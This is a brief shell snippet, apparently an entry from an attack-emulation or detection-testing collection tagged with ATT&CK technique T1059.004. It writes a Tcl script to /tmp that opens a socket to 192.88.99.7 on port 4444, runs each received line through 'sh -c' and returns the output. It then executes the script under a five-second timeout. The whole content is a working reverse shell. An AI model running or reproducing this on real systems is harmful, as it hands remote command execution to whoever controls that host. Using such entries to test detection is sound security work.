# title: Tcl reads commands from a connection and runs them
# technique: T1059 T1059.004
# needs: tclsh

printf 'set s [socket 192.88.99.7 4444]\nwhile {[gets $s c] >= 0 && $c ne "exit"} { catch {exec sh -c $c} o; puts $s $o; flush $s }\n' >/tmp/t.tcl
timeout 5 tclsh /tmp/t.tcl
